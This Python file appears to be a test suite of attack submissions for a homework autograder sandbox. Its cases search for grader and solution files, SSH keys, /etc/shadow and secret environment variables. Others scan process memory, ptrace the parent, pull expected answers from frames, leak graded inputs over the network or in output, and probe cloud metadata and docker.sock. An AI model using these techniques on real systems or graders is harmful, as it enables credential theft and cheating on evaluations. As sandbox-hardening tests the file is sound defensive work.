"""Rows 18-23: looking for what must stay secret, and carrying it out. What was found is given as the answer."""

from tests.attacks.case import Answer, function

# Everything reachable from the collector, the frames and the modules that could be the answer to `laplacian`.
ARRAYS = """
import gc, sys, numpy as np
given = [id(image), id(kernel)]
def candidates(roots):
    seen, stack, found = set(), list(roots), []
    while stack and len(seen) < 2_000_000:
        o = stack.pop()
        if id(o) in seen: continue
        seen.add(id(o))
        if type(o) is np.ndarray and o.shape == (5, 5) and id(o) not in given and not (o == image).all():
            found.append(o)
        stack.extend(gc.get_referents(o))
    return found
"""
FIRST = "\nresponse = found[0] if found else 0.0"
READ = """
import os
def read(path):
    try:
        with open(path, 'rb') as f: return f.read(10**6)
    except OSError: return b''
"""


def reads(row, name, paths, **more):
    """A cell that answers with what it reads from the first of the paths that there is."""
    return Answer(
        row,
        name,
        READ + f"import glob\nfound = [read(p) for q in {paths!r} for p in glob.glob(q)]\n"
        "found = [f for f in found if f]" + FIRST.replace("0.0", "'nothing'"),
        **more,
    )


def looked(row, name, code, **more):
    """A cell that answers True where it found something it should not; `nothing` is the harmless answer."""
    return Answer(row, name, code + "\nresponse = 'nothing' if not found else found", **more)


# What must not have been found shows as text in the feedback message of the check; `nothing` must.
CASES = (
    looked(
        18,
        "walks_for_graders",
        """
import os
def walk(root):
    for _, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f != 'site-packages']
        yield from files
found = [f for root in ('/work', '/home', '/root', '/opt', '/mnt', '/srv', '/var', '/tmp', '/media') for f in walk(root)
         if f.startswith('hw0') or f in ('gradebook.sqlite', 'id_rsa', '.tamrin-secret')]
if found: os._exit(9)
""",
    ),
    looked(
        18,
        "imports_the_course",
        """
import importlib, sys
sys.path[:0] = ['/work/main', '..', '../..', '/']
found = []
for name in ('solutions.hw02_convolution', 'graders.hw02_convolution', 'tamrin.judge.paper', 'tamrin.checks'):
    try: found.append(importlib.import_module(name))
    except Exception: pass
if found: import os; os._exit(9)
""",
    ),
    reads(18, "reads_homes", ["/root/.ssh/*", "/home/*/*", "/etc/shadow", "/etc/hosts", "/root/.*", "../*"]),
    looked(
        18,
        "environment",
        """
import os
found = [k for k in os.environ if any(w in k.upper() for w in ('SECRET', 'TOKEN', 'KEY', 'PASS', 'SSH', 'TAMRIN'))]
if found: os._exit(9)
""",
    ),
    looked(
        18,
        "follows_symlinks",
        """
import os
found = []
for n, target in enumerate(('/work/main', '/root', '/proc/1/root', '/proc/1/cwd', '/.old')):
    os.symlink(target, f'atk-link-{n}')
    try: found += [x for x in os.listdir(f'atk-link-{n}') if x in ('graders', 'solutions', '.ssh', 'work')]
    except OSError: pass
if found: os._exit(9)
""",
    ),
    Answer(19, "objects_of_the_collector", ARRAYS + "found = candidates(gc.get_objects())" + FIRST),
    Answer(
        19,
        "frames",
        ARRAYS
        + """
frames, frame = [], sys._getframe()
while frame: frames += [frame.f_locals, frame.f_globals]; frame = frame.f_back
found = candidates(frames)"""
        + FIRST,
    ),
    Answer(19, "frozen_objects", ARRAYS + "gc.unfreeze()\nfound = candidates(gc.get_objects())" + FIRST),
    Answer(
        19,
        "frozen_objects_when_called",
        function(
            """
gc.unfreeze()
found = [o for o in gc.get_objects() if type(o).__name__ in ('Returned', 'ExamplesCheck', 'OracleCheck', 'Paper')]
return found[0] if found else 0.0
""",
            "import gc",
        ),
        "failed",
        "conv2d",
    ),
    Answer(
        19,
        "expected_results_in_the_callers_frames",
        function(
            """
frame, found = sys._getframe(1), []
while frame:
    found += [v for k, v in frame.f_locals.items() if k in ('expected', 'right', 'result', 'outcomes', 'wrong')]
    frame = frame.f_back
return found[0] if found else 0.0
""",
            "import sys",
        ),
        "failed",
        "conv2d",
    ),
    Answer(19, "modules", ARRAYS + "found = candidates(vars(m) for m in list(sys.modules.values()) if m)" + FIRST),
    Answer(
        19,
        "checks_among_modules",
        """
import sys, linecache
staff = ('graders', 'solutions', 'tamrin.judge', 'tamrin.checks', 'hypothesis')
found = [n for n in sys.modules if n.startswith(staff)]
found += [n for n in linecache.cache if 'graders' in n or 'solutions' in n]
if found: import os; os._exit(9)
response = 0.0
""",
    ),
    Answer(
        19,
        "own_memory",
        """
import re
found = []
for line in open('/proc/self/maps'):
    low, high = (int(n, 16) for n in line.split()[0].split('-'))
    if 'rw' in line and high - low < 2**28:
        with open('/proc/self/mem', 'rb') as memory:
            try:
                memory.seek(low)
                found += re.findall(b'forgot[_]padding|border_left[_]zero', memory.read(high - low))
            except (OSError, ValueError): pass
if found: import os; os._exit(9)
response = 0.0
""",
    ),
    Answer(
        19,
        "memory_of_other_processes",
        READ
        + """
me = str(os.getpid())
found = [p for p in os.listdir('/proc') if p.isdigit() and p not in (me, '1') or p == '1' and read('/proc/1/mem')]
if found: os._exit(9)
response = 0.0
""",
    ),
    Answer(
        19,
        "environment_of_the_parent",
        READ
        + """
found = [e for p in ('1', str(os.getppid()), 'self') for e in read(f'/proc/{p}/environ').split(b'\\0')
         if any(w in e.upper() for w in (b'SECRET', b'TOKEN', b'PASSWORD', b'/WORK/MAIN/TESTS'))]
if found: os._exit(9)
response = 0.0
""",
    ),
    Answer(
        19,
        "ptraces_its_parent",
        """
import ctypes, os
libc = ctypes.CDLL(None)
found = [p for p in (1, os.getppid()) if libc.ptrace(16, p, 0, 0) == 0]
if found: os._exit(9)
response = 0.0
""",
    ),
    Answer(
        19,
        "descriptors",
        """
import os
paths = [f'/proc/self/fd/{d}' for d in os.listdir('/proc/self/fd')]
found = [l for l in (os.readlink(p) for p in paths if os.path.lexists(p))
         if not l.startswith(('/dev/null', 'socket:', '/proc'))]
if found: os._exit(9)
response = 0.0
""",
    ),
    Answer(
        20,
        "inputs_by_network",
        function("""
import socket
try: socket.create_connection(('1.1.1.1', 80), 1).send(repr(x).encode())
except OSError: return 0.0
return right(x, w, stride, padding)
"""),
        "failed",
        "conv2d",
    ),
    Answer(
        20,
        "inputs_by_file",
        function("""
import os
for folder in ('/work/main', '/work', '/var/tmp', '/root', os.path.expanduser('~')):
    try: open(folder + '/atk-inputs', 'a').write(repr((x, w)))
    except OSError: pass
return right(x, w, stride, padding)
"""),
        "passed",
        "conv2d",
    ),
    Answer(
        21,
        "inputs_in_the_output",
        function("""
print('LEAKED', x.tolist())
return right(x, w, stride, padding)
"""),
        "passed",
        "conv2d",
        unseen=("LEAKED",),
    ),
    Answer(
        21,
        "inputs_in_an_error",
        function("""
if x.size > 9: raise ValueError('LEAKED' + repr(x.tolist()))
return right(x, w, stride, padding)
"""),
        "error",
        "conv2d",
        worth=14 / 6,
        unseen=("LEAKED",),
    ),
    Answer(
        21,
        "inputs_in_the_name_of_an_error",
        function("""
if x.size > 9: raise type('LEAKED' + '_'.join(str(int(n)) for n in x.ravel()).replace('-', 'm'), (Exception,), {})
return right(x, w, stride, padding)
"""),
        "error",
        "conv2d",
        worth=14 / 6,
        unseen=("LEAKED",),
    ),
    Answer(
        21,
        "inputs_in_the_result",
        function("""
return right(x, w, stride, padding) if x.size <= 9 else 'LEAKED' + repr(x.tolist())
"""),
        "failed",
        "conv2d",
        worth=14 / 6,
        unseen=("LEAKED",),
    ),
    Answer(
        21,
        "inputs_in_the_name_of_a_type",
        function("""
return right(x, w, stride, padding) if x.size <= 9 else type('LEAKED' + str(x.shape), (), {})()
"""),
        "failed",
        "conv2d",
        worth=14 / 6,
        unseen=("LEAKED",),
    ),
    *(
        Answer(
            23,
            name,
            f"import os, socket\nfound = False\ntry:\n    {code}\n    found = True\nexcept Exception: pass\n"
            "if found: os._exit(9)\nresponse = 0.0",
        )
        for name, code in {
            "internet": "socket.create_connection(('1.1.1.1', 53), 1)",
            "names": "socket.getaddrinfo('example.org', 80)",
            "download": "import urllib.request; urllib.request.urlopen('http://example.org', timeout=1)",
            "metadata": "import urllib.request; urllib.request.urlopen('http://169.254.169.254/', timeout=1)",
            "local_services": "socket.create_connection(('127.0.0.1', 22), 1)",
            "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
            "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
            "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
            "vsock": "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)",
            "packet": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
            "docker": "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
            "abstract": "s = open('/proc/net/unix').read().split('@')[1:]; "
            "[socket.socket(socket.AF_UNIX).connect('\\0' + n.split()[0]) for n in s]; 1 / len(s)",
            "warm_process": "import glob; socket.socket(socket.AF_UNIX).connect(glob.glob('/tmp/tamrin-*/warm')[0])",
        }.items()
    ),
    Answer(23, "curl", "!curl http://example.org\n%pip install six\nresponse = 0.0"),
)
